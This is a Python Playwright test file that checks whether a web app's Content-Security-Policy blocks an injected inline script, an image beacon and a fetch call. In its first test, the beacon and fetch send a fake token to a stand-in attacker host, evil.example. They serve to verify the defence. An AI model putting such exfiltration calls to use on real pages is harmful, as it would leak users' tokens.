"""The Content-Security-Policy in a real browser: what it lets through, and what not.

The whole two-phone flow runs under the app's policy without a single violation (the
``pixel``/``iphone`` fixtures fail a test on any console error); here: the policy does
block what an injected script would do, and the API reference at /docs works under its own.
"""

from __future__ import annotations

from playwright.sync_api import Browser, Page, expect


def violations(page: Page) -> list[str]:
    found: list[str] = []
    page.on(
        "console",
        lambda m: found.append(m.text) if "Content Security Policy" in m.text else None,
    )
    return found


def test_the_app_runs_no_injected_script_and_talks_to_no_other_site(
    browser: Browser, server: str
) -> None:
    page = browser.new_page()
    blocked = violations(page)
    page.goto(f"{server}/")
    expect(page.get_by_test_id("start")).to_be_visible()
    # What a script slipped into the page (say, through a photo's file name) would try.
    page.evaluate(
        """() => {
            const inline = document.createElement("script");
            inline.textContent = "window.injected = true";
            document.body.append(inline);
            const beacon = new Image();
            beacon.src = "https://evil.example/steal?token=secret";
            document.body.append(beacon);
            return fetch("https://evil.example/steal").catch(() => null);
        }"""
    )
    assert page.evaluate("() => window.injected") is None
    for _ in range(50):  # the reports arrive asynchronously
        joined = "\n".join(blocked)
        if all(f"{kind}-src" in joined for kind in ("script", "img", "connect")):
            break
        page.wait_for_timeout(100)
    assert "script-src" in joined
    assert "img-src" in joined
    assert "connect-src" in joined
    page.close()


def test_the_api_reference_works_under_its_own_policy(browser: Browser, server: str) -> None:
    page = browser.new_page()
    blocked = violations(page)
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.goto(f"{server}/docs")
    expect(page.locator(".swagger-ui .info .title")).to_contain_text("Buddy Search")
    # An operation opened: its examples, highlighted; "Try it out" against this server.
    page.locator(".opblock-summary", has_text="/api/version").click()
    page.get_by_role("button", name="Try it out").click()
    page.get_by_role("button", name="Execute").click()
    expect(page.locator(".live-responses-table").first).to_contain_text("200")
    expect(page.locator(".highlight-code").first).to_be_visible()
    assert blocked == []
    assert errors == []
    page.close()
